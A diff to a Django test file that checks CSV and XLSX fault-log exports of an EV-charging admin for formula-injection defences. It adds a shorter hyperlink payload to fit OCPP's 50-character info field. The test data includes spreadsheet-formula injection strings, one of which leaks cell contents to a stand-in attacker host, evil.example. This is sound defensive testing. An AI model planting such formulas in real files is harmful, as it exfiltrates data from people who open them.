@@ -17,6 +17,7 @@ from tests.factories import make_session
 
 pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+SHORT_LINK = '=HYPERLINK("http://evil.example","Click")'  # fits OCPP's 50-character info
 
 
 @pytest.mark.parametrize(("text", "expected"), [
@@ -62,7 +63,7 @@ def test_an_xlsx_download_has_no_formula_and_keeps_negative_numbers_numeric():
 def test_a_chargers_vendor_error_text_is_inert_in_the_fault_log_exports(client, world):
     connector = world.cp_a.connectors.get(number=1)
     StatusEvent.objects.create(charge_point=world.cp_a, connector=connector, status="Faulted",
-                               error_code="OtherError", vendor_error_code="=1+2", info=HYPERLINK,
+                               error_code="OtherError", vendor_error_code="=1+2", info=SHORT_LINK,
                                timestamp=datetime(2026, 3, 10, 10, tzinfo=UTC))
     client.force_login(world.carol)
     params = {"period": "month", "day": "2026-03-15"}
@@ -70,10 +71,10 @@ def test_a_chargers_vendor_error_text_is_inert_in_the_fault_log_exports(client, 
         csv_response = client.get(reverse("admin:reporting_faults"), {**params, "format": "csv"})
         xlsx_response = client.get(reverse("admin:reporting_faults"), {**params, "format": "xlsx"})
     rows = list(csv.reader(io.StringIO(csv_response.content.decode())))
-    assert rows[1][3:5] == ["'=1+2", "'" + HYPERLINK]
+    assert rows[1][3:5] == ["'=1+2", "'" + SHORT_LINK]
     sheet = load_workbook(io.BytesIO(xlsx_response.content)).worksheets[0]
     row = list(sheet.iter_rows(min_row=2))[0]
-    assert [row[3].value, row[4].value] == ["'=1+2", "'" + HYPERLINK]
+    assert [row[3].value, row[4].value] == ["'=1+2", "'" + SHORT_LINK]
     assert all(cell.data_type != "f" for cell in row)
 
 
